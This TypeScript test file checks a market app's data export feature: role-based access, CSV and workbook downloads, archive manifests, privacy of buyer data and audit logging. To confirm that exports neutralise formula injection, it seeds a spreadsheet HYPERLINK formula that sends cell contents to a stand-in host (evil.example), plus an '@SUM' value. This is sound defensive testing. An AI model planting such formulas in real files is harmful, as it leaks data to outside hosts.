import { accountId, type Account } from '$lib/domain/accounts/account';
import { MARKET_TABLES, PRODUCER_TABLES, type FigureTable } from '$lib/domain/figures/figures';
import type { Money, Tally } from '$lib/domain/figures/sales';
import type { FilePurpose } from '$lib/domain/files/purposes';
import { formatPhone } from '$lib/domain/ordering/phone';
import { sql } from 'drizzle-orm';
import { unzipSync } from 'fflate';
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { Stall } from '../../tests/fixtures/stall';
import { listChanges } from '../audit/list-changes';
import { addPicture } from '../catalogue/pictures/add-picture';
import { newPerson } from '../certification/dossier.fixture';
import type { Context } from '../context';
import { FileShelf } from '../files/file-shelf';
import { seedFile } from '../files/files.fixture';
import { getMarketFigures, getProducerFigures } from '../figures/read-figures';
import { createSession } from '../market/sessions';
import { rearm } from '../spreadsheet/formula';
import { answerExport } from './answer-export';
import { countFiles } from './pack-files';

const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Bấm")';
const PERIOD = 'from=2026-11-20&until=2026-11-20';

let stall: Stall;
let shelf: FileShelf;
let folder: string;
beforeAll(async () => {
	stall = await Stall.open(3);
	folder = await mkdtemp(join(tmpdir(), 'export-'));
	shelf = new FileShelf(folder);
	await stall.place(await stall.order({ note: 'GHI-CHU-CUA-NGUOI-MUA' }));
	await stall.place(
		await stall.order({ producerId: stall.neighbour, lines: [stall.line(stall.tea)] }),
	);
});
afterAll(async () => {
	await rm(folder, { recursive: true, force: true });
	await stall[Symbol.asyncDispose]();
});

const person = (roles: Account['roles'], producers: Account['producers'] = []): Account => ({
	id: accountId('somebody'),
	name: 'Ai đó',
	email: null,
	phone: null,
	roles,
	producers,
});

const PEOPLE = (): Readonly<Record<string, Account | null>> => ({
	nobody: null,
	administrator: person(['administrator']),
	reviewer: person(['reviewer']),
	host: person(['host']),
	owner: person([], [{ producerId: stall.producer, role: 'owner' }]),
	packer: person([], [{ producerId: stall.producer, role: 'packer' }]),
	neighbour: person([], [{ producerId: stall.neighbour, role: 'owner' }]),
});

function ask(account: Account | null, what: string, search = ''): Promise<Response> {
	const signedIn = account && { account, signInId: 's1', signedInAt: stall.now };
	const context = {
		...stall.runtime,
		requestId: 'request-1',
		address: '203.0.113.7',
		deviceId: null,
		auth: () => Promise.reject(new Error('not wanted')),
		signedIn: () => Promise.resolve(signedIn),
	} as Context;
	const language = 'vi';
	const wish = { what, search: new URLSearchParams(search), language, shelf } as const;
	return answerExport(context, wish);
}

function sha256OfBytes(bytes: Uint8Array): string {
	return createHash('sha256').update(bytes).digest('hex');
}

async function bytesOf(response: Response): Promise<Buffer> {
	return Buffer.from(await response.arrayBuffer());
}

const own = () => `producer=${stall.producer}&table=products&format=csv&${PERIOD}`;

describe('who may have what', () => {
	it.each<[string, () => string, readonly string[]]>([
		['everything', () => 'format=zip', ['administrator']],
		['everything', () => 'format=tar', ['administrator']],
		['import-template', () => '', ['administrator']],
		[
			'market-figures',
			() => `table=days&format=csv&${PERIOD}`,
			['administrator', 'reviewer', 'host'],
		],
		['producer-figures', own, ['owner']],
	])('%s', async (what, search, allowed) => {
		for (const [name, account] of Object.entries(PEOPLE())) {
			const answer = ask(account, what, search());
			if (allowed.includes(name)) await (await answer).arrayBuffer();
			else {
				const codes = name === 'nobody' ? ['NOT_SIGNED_IN'] : ['FORBIDDEN', 'NOT_FOUND'];
				const refused = await answer.then(
					() => 'handed out',
					(error: { code: string }) => error.code,
				);
				expect(codes, `${what} for ${name}`).toContain(refused);
			}
		}
	});

	it('another producer is not found, whether there is one or not', async () => {
		const { neighbour } = PEOPLE();
		await expect(ask(neighbour ?? null, 'producer-figures', own())).rejects.toMatchObject({
			code: 'NOT_FOUND',
		});
		const nobody = own().replace(/producer=\d+/, 'producer=999');
		await expect(ask(neighbour ?? null, 'producer-figures', nobody)).rejects.toMatchObject({
			code: 'NOT_FOUND',
		});
	});
});

describe('a download', () => {
	it('is saved, never shown, and kept by nobody on the way', async () => {
		const response = await ask(
			person(['administrator']),
			'market-figures',
			`table=days&format=csv&${PERIOD}`,
		);
		expect(Object.fromEntries(response.headers)).toMatchObject({
			'content-type': 'text/csv; charset=utf-8',
			'content-disposition': 'attachment; filename="market-figures-days-2026-11-20-2026-11-20.csv"',
			'x-content-type-options': 'nosniff',
			'cache-control': 'no-store',
		});
		expect((await bytesOf(response)).toString()).toBe(
			'\uFEFFNgày;Số đơn;Giá trị (đồng)\r\n20/11/2026;2;210000\r\n',
		);
	});

	it.each(['producer-figures', 'market-figures'])(
		'of %s as a workbook opens, with numbers that are numbers',
		async (what) => {
			const isOwn = what === 'producer-figures';
			const account = isOwn ? PEOPLE()['owner'] : person(['host']);
			const search = (table: string) =>
				`${isOwn ? `producer=${stall.producer}&` : ''}table=${table}&format=xlsx&${PERIOD}`;
			const rowsOf = async (table: string) => {
				const book = await bytesOf(await ask(account ?? null, what, search(table)));
				return (await readXlsxFile(book))[0]?.data ?? [];
			};
			const [heading, day] = await rowsOf('days');
			expect(heading).toEqual(['Ngày', 'Số đơn', 'Giá trị (đồng)']);
			expect(day).toEqual([new Date('2026-11-20'), isOwn ? 1 : 2, isOwn ? 120_000 : 210_000]);
			const products = (await rowsOf('products')).slice(1);
			expect(products.flat()).toContain('Mật ong');
			expect(products).toHaveLength(isOwn ? 1 : 2);
		},
	);

	it('of one producer holds that producer only', async () => {
		const { owner } = PEOPLE();
		const text = (await bytesOf(await ask(owner ?? null, 'producer-figures', own()))).toString();
		expect(text).toContain('Mật ong');
		expect(text).not.toContain('Chè');
	});

	it.each(['table=producers', 'table=accounts', 'format=pdf', 'from=x'])(
		'that is not offered is refused: %s',
		async (changed) => {
			const search = new URLSearchParams(own());
			for (const [name, value] of new URLSearchParams(changed)) search.set(name, value);
			const { owner } = PEOPLE();
			await expect(ask(owner ?? null, 'producer-figures', search.toString())).rejects.toMatchObject(
				{ code: expect.stringMatching(/^(?:NOT_FOUND|MALFORMED_REQUEST)$/) as string },
			);
		},
	);
});

describe('everything', () => {
	const administrator = person(['administrator']);
	type Listed = { table: string; file: string; rows: number; bytes: number; sha256: string };

	async function archive() {
		const files = unzipSync(await bytesOf(await ask(administrator, 'everything', 'format=zip')));
		const list = JSON.parse(Buffer.from(files['manifest.json'] ?? []).toString()) as {
			madeAt: string;
			files: Listed[];
			stayed: { table: string; why: string }[];
		};
		return { files, list };
	}

	beforeAll(async () => {
		await stall.db.sql`update producers set about = ${FORMULA} where id = ${stall.producer}`;
		await stall.db.sql`update products set story = '@SUM(A1)' where id = ${stall.honey}`;
	});

	it('is a workbook of all tables, and every text in it is a text', async () => {
		const workbook = await bytesOf(await ask(administrator, 'everything', 'format=xlsx'));
		const sheets = await readXlsxFile(workbook);
		const { list } = await archive();
		expect(sheets).toHaveLength(list.files.length);
		const rowsOf = (name: string) => sheets.find(({ sheet }) => sheet === name)?.data ?? [];
		expect(rowsOf('Chủ thể').flat()).toContain(FORMULA);
		expect(rowsOf('Sản phẩm')).toHaveLength(5);
		expect(rowsOf('Đơn hàng')).toHaveLength(3);
	});

	it('is an archive of CSVs in which nobody can leave a formula', async () => {
		const { files } = await archive();
		for (const [name, bytes] of Object.entries(files)) {
			if (!name.endsWith('.csv')) continue;
			expect(Buffer.from(bytes).toString(), name).not.toMatch(/(?:^|[;,\t"])[=@+-](?!\d)/m);
		}
		const producers = Buffer.from(files['Chủ thể.csv'] ?? []).toString();
		expect(producers).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1,`);
		expect(Buffer.from(files['Sản phẩm.csv'] ?? []).toString()).toContain("'@SUM(A1)");
	});

	it('says of each file how many rows it has and by what one knows it', async () => {
		const { files, list } = await archive();
		expect(list.madeAt).toBe(new Date(stall.now).toISOString());
		for (const { file, bytes, sha256 } of list.files) {
			const content = files[file] ?? new Uint8Array();
			expect([content.length, sha256OfBytes(content)], file).toEqual([bytes, sha256]);
		}
		expect(Object.keys(files)).toHaveLength(list.files.length + 1);
		for (const { table, rows } of list.files) {
			const [found] = await stall.db.sql<{ count: number }[]>`
				select count(*)::int as count from ${stall.db.sql(table)}`;
			expect(rows, table).toBe(found?.count);
		}
		expect(list.stayed.map(({ table }) => table)).toContain('credentials');
	});

	it('has every row of a table that is longer than a page, once', async () => {
		await stall.db.sql`
			insert into lots (product_id, producer_id, lot)
			select ${stall.honey}, ${stall.producer}, 'L' || n from generate_series(1, 4001) n`;
		await stall.db.sql`
			insert into serial_flags (gtin, lot, serial, reason, since)
			select '09521234543213', 'L' || n % 7, 'S' || n, 'recalled', now()
			from generate_series(1, 4001) n`;
		const { files } = await archive();
		for (const name of ['Lô hàng.csv', 'Tem bị cảnh báo.csv']) {
			const lines = Buffer.from(files[name] ?? [])
				.toString()
				.trimEnd()
				.split('\r\n')
				.slice(1);
			expect([lines.length, new Set(lines).size], name).toEqual([4001, 4001]);
		}
		await stall.db.sql`delete from lots`;
		await stall.db.sql`delete from serial_flags`;
	});

	it('is all of one moment, whatever is written while it is read', async () => {
		const { database } = stall.db;
		const { producer: producerId, honey, now } = stall;
		const isWaiting = async () => {
			const [row] = await stall.db.sql<{ n: number }[]>`
				select count(*)::int as n from pg_locks where not granted
				and relation = 'orders'::regclass`;
			return row?.n;
		};
		// Reading stops at the orders, behind the products and before the sessions.
		const { reading } = await database.transaction(async (tx) => {
			await tx.execute(sql`lock table orders in access exclusive mode`);
			const begun = archive();
			await expect.poll(isWaiting).toBe(1);
			const slots = [{ startsAt: now, minutes: 1, producerId, productIds: [honey] }];
			const times = { startsAt: now, endsAt: now + 60_000 };
			const added = { slug: 'giua-chung', title: 'Giữa chừng', intro: '', ...times, slots };
			await createSession(database, added, now);
			return { reading: begun };
		});
		const sessions = ({ files }: Awaited<typeof reading>) =>
			Buffer.from(files['Phiên chợ.csv'] ?? []).toString();
		expect(sessions(await reading)).not.toContain('giua-chung');
		expect(sessions(await archive())).toContain('giua-chung');
	});

	it('holds nothing by which a buyer is known', async () => {
		const { name, phone, address } = stall.payload('').buyer;
		const { files } = await archive();
		const words = Object.values(files).map((bytes) => Buffer.from(bytes).toString());
		for (const known of [
			name,
			phone,
			formatPhone(phone),
			address.street,
			'GHI-CHU-CUA-NGUOI-MUA',
		]) {
			expect(
				words.filter((text) => text.includes(known)),
				known,
			).toEqual([]);
		}
	});

	it('is written down before it leaves', async () => {
		const before = { before: null, accountId: null, producerId: null, text: 'data.export' };
		const { entries } = await listChanges(stall.db.database, before);
		const { body } = await ask(person(['administrator']), 'everything', 'format=xlsx');
		// Whoever goes before the end leaves nothing open.
		await body?.cancel();
		const after = await listChanges(stall.db.database, before);
		expect(after.entries).toHaveLength(entries.length + 1);
		expect(after.entries[0]).toMatchObject({ accountId: 'somebody', after: { format: 'xlsx' } });
	});
});

describe('the files that the rows name', () => {
	const administrator = person(['administrator']);
	const PAPER = Buffer.from('%PDF-1.7 một tờ giấy dài hơn một khối '.repeat(30));

	/** Hands a file in. @param bytes of it; left out where nobody knows them any more */
	async function handIn(
		sha256: string,
		bytes?: Buffer,
		{
			purpose = 'dossierDocument',
			isGone = false,
		}: { purpose?: FilePurpose; isGone?: boolean } = {},
	): Promise<void> {
		const { accountId: id } = await newPerson(stall.db.database, [], stall.now);
		const file = { purpose, producerId: stall.producer, accountId: id } as const;
		const made = await seedFile(stall.db.database, file, stall.now);
		await stall.db.sql`
			update files set sha256 = ${sha256}, bytes = ${bytes?.length ?? 7} where id = ${made}`;
		if (bytes && !isGone) await shelf.put(made, bytes);
	}

	async function unpack() {
		const packed = await bytesOf(await ask(administrator, 'everything', 'format=tar'));
		const { stdout } = await untar(packed, ['-t']);
		const names = stdout.toString().trim().split('\n');
		const contentOf = async (name: string) => (await untar(packed, ['-xO', name])).stdout;
		const list: unknown = JSON.parse((await contentOf('manifest.json')).toString());
		return { names, contentOf, list };
	}

	it('come as an archive that any computer opens, by the names that the table gives them', async () => {
		const paper = sha256OfBytes(PAPER);
		// One copy of it is gone; the other is whole.
		await handIn(paper, PAPER, { isGone: true });
		await handIn(paper, PAPER);
		// What buyers took pictures of stays here, as their names do.
		const broken = Buffer.from('ảnh gói hàng vỡ');
		await handIn(sha256OfBytes(broken), broken, { purpose: 'complaintPicture' });
		await handIn('f'.repeat(64), Buffer.from('khác'));
		await handIn('e'.repeat(64));
		const hash = await addPicture(stall.db.database, '<svg/>');
		const { names, contentOf, list } = await unpack();
		expect(names).toEqual([`files/${paper}.pdf`, `pictures/${hash}.svg`, 'manifest.json']);
		expect(await contentOf(`files/${paper}.pdf`)).toEqual(PAPER);
		// What is not there any more, or is other than it was, is said and never handed out as if it were.
		expect(list).toMatchObject({
			...{ files: 1, bytes: PAPER.length, pictures: 1 },
			lost: [
				{ sha256: 'e'.repeat(64), why: 'missing' },
				{ sha256: 'f'.repeat(64), why: 'damaged' },
			],
		});
		expect(await countFiles(stall.db.database)).toEqual({
			files: 3,
			bytes: PAPER.length + Buffer.from('khác').length + 7,
		});
	});

	it('come whole where they are more than one reading of rows', async () => {
		for (let n = 0; n < 3; n++) {
			await stall.db.sql`
				insert into files (id, purpose, account_id, producer_id, name, state, declared_bytes,
					media_type, bytes, sha256, created_at)
				select gen_random_uuid(), purpose, account_id, producer_id, name, state, declared_bytes,
					media_type, bytes, 'a' || lpad((${n} * 100 + i)::text, 63, '0'), created_at
				from files, generate_series(1, 100) i where sha256 = ${'e'.repeat(64)}`;
		}
		const { lost } = (await unpack()).list as { lost: readonly unknown[] };
		expect(lost).toHaveLength(302);
		await stall.db.sql`delete from files where sha256 like 'a0%'`;
	});

	it('are written down before they leave', async () => {
		await (await ask(administrator, 'everything', 'format=tar')).body?.cancel();
		const asked = { before: null, accountId: null, producerId: null, text: 'data.export' };
		const { entries } = await listChanges(stall.db.database, asked);
		expect(entries[0]).toMatchObject({ accountId: 'somebody', after: { format: 'tar' } });
	});
});

describe('each table of figures', () => {
	const host = person(['host']);
	const download = async (table: string, format: string) =>
		bytesOf(await ask(host, 'market-figures', `table=${table}&format=${format}&${PERIOD}`));

	beforeAll(async () => {
		const { database, sql } = stall.db;
		const { now, producer, honey } = stall;
		const slots = [{ startsAt: now, minutes: 1, producerId: producer, productIds: [honey] }];
		const times = { startsAt: now, endsAt: now + 60_000 };
		const session = { slug: 'phien', title: FORMULA, intro: '', ...times, slots };
		const { id: sessionId } = await createSession(database, session, now);
		await stall.place(await stall.order({ sessionId, payment: 'vietqr' }));
		await sql`update producers set name = ${FORMULA} where id = ${stall.neighbour}`;
		await sql`update order_lines set name = ${FORMULA} where product_id = ${stall.tea}`;
	});

	it.each<[string, readonly (readonly (string | number | null)[])[]]>([
		[
			'products',
			[
				['Mật ong', 2, 2, 240_000],
				[FORMULA, 1, 1, 90_000],
			],
		],
		[
			'producers',
			[
				['HTX Ong', 2, 240_000],
				[FORMULA, 1, 90_000],
			],
		],
		[
			'sessions',
			[
				['Ngoài phiên', 2, 210_000],
				[FORMULA, 1, 120_000],
			],
		],
		['provinces', [['Hà Nội', 3, 330_000]]],
		[
			'sellerProvinces',
			[
				['Tuyên Quang', 2, 240_000],
				['Thái Nguyên', 1, 90_000],
			],
		],
		[
			'money',
			[
				['Trả khi nhận (COD)', 2, 210_000, 0, 0, 0, 0],
				['Chuyển khoản VietQR', 1, 120_000, 0, 0, 0, 0],
			],
		],
		[
			'sets',
			[
				[4, 'Mật ong, mật khác và nông sản thực phẩm khác', 2, 240_000],
				[11, 'Chè tươi, chè chế biến', 1, 90_000],
			],
		],
		['stars', [[4, 3, 330_000]]],
	])(
		'%s says the same as CSV and as a workbook, and leaves no formula in either',
		async (table, rows) => {
			const csv = (await download(table, 'csv')).toString();
			const [, ...lines] = csv.replace('\uFEFF', '').trimEnd().split('\r\n');
			// In a CSV a quote stands before what a spreadsheet would reckon; a workbook says it is a text.
			expect(lines).toEqual(rows.map((row) => row.map(inCsv).join(';')));
			const book = (await readXlsxFile(await download(table, 'xlsx')))[0]?.data ?? [];
			expect(book.slice(1)).toEqual(rows);
		},
	);
});

describe('what is taken home is what the screen shows', () => {
	beforeAll(async () => {
		const { sql } = stall.db;
		const { id } = await stall.place(await stall.order());
		await sql`update orders set state = 'cancelled' where id = ${id}`;
	});

	const period = { from: '2026-11-20', until: '2026-11-20' } as const;
	const figuresOf = {
		'producer-figures': () =>
			getProducerFigures(stall.db.database, { producerId: stall.producer, period }),
		'market-figures': () => getMarketFigures(stall.db.database, period),
	};
	const wanted = [
		...PRODUCER_TABLES.map((table) => ['producer-figures', table] as const),
		...MARKET_TABLES.map((table) => ['market-figures', table] as const),
	];

	/** The numbers of each row, as the screen has them. */
	function numbersOf(row: object, table: FigureTable): readonly number[] {
		if (table !== 'money') {
			const { orders, valueDong } = row as Tally;
			return [orders, valueDong];
		}
		const { expected, received, owedBack } = row as Money;
		return [expected, received, owedBack].flatMap(({ orders, valueDong }) => [orders, valueDong]);
	}

	it.each(wanted)('%s: %s', async (what, table) => {
		const figures: Partial<Record<FigureTable, readonly object[]>> = await figuresOf[what]();
		const shown = (figures[table] ?? []).map((row) => numbersOf(row, table));
		// Nothing to compare would agree with everything.
		expect(shown).not.toEqual([]);
		const account = what === 'market-figures' ? person(['host']) : PEOPLE()['owner'];
		const answer = async (format: string) =>
			bytesOf(
				await ask(
					account ?? null,
					what,
					`producer=${stall.producer}&table=${table}&format=${format}&${PERIOD}`,
				),
			);
		const [headings, ...book] = (await readXlsxFile(await answer('xlsx')))[0]?.data ?? [];
		const at = (headings ?? []).flatMap((heading, index) =>
			/Số đơn|: số đơn|\(đồng\)/.test(String(heading)) ? [index] : [],
		);
		expect(book.map((row) => at.map((index) => row[index]))).toEqual(shown);

		const parsed = parseCsv((await answer('csv')).toString());
		expect(parsed[0]).toEqual(headings);
		expect(parsed.slice(1).map((row) => at.map((index) => Number(row[index])))).toEqual(shown);
		for (const cell of parsed.flat()) expect(cell).not.toMatch(/^[=+@\t\r-]/);
		// What is a text in the workbook is the same text in the CSV, but for the sign that says so.
		const texts = (rows: readonly (readonly unknown[])[]) =>
			rows.map((row) => row.map((cell) => (typeof cell === 'string' ? cell : null)));
		expect(
			texts(book).map((row, y) =>
				row.map((cell, x) => cell === null || rearm(parsed[y + 1]?.[x] ?? '') === cell),
			),
		).toEqual(texts(book).map((row) => row.map(() => true)));
	});
});

/** Rows of a CSV with semicolons, read by no code of ours. */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [[]];
	for (const [, quoted, plain = '', end = ''] of text
		.replace('\uFEFF', '')
		.matchAll(/(?:"((?:[^"]|"")*)"|([^;\r\n"]*))(;|\r\n|$)/g)) {
		rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
		if (end === '\r\n') rows.push([]);
		if (end === '') break;
	}
	return rows.filter((row) => row.join('') !== '');
}

/** By the machine's own program, which knows nothing of how it was packed. */
function untar(packed: Buffer, wish: readonly string[]): Promise<{ stdout: Buffer }> {
	return new Promise((resolve, reject) => {
		const options = { encoding: 'buffer', maxBuffer: 10_000_000 } as const;
		const child = execFile('tar', ['-f', '-', ...wish], options, (error, stdout) => {
			if (error) reject(new Error('tar failed', { cause: error }));
			else resolve({ stdout });
		});
		child.stdin?.end(packed);
	});
}

const inCsv = (value: string | number | null) =>
	value === FORMULA
		? `"'${value.replaceAll('"', '""')}"`
		: String(value ?? '').replace(/^.*,.*$/, '"$&"');
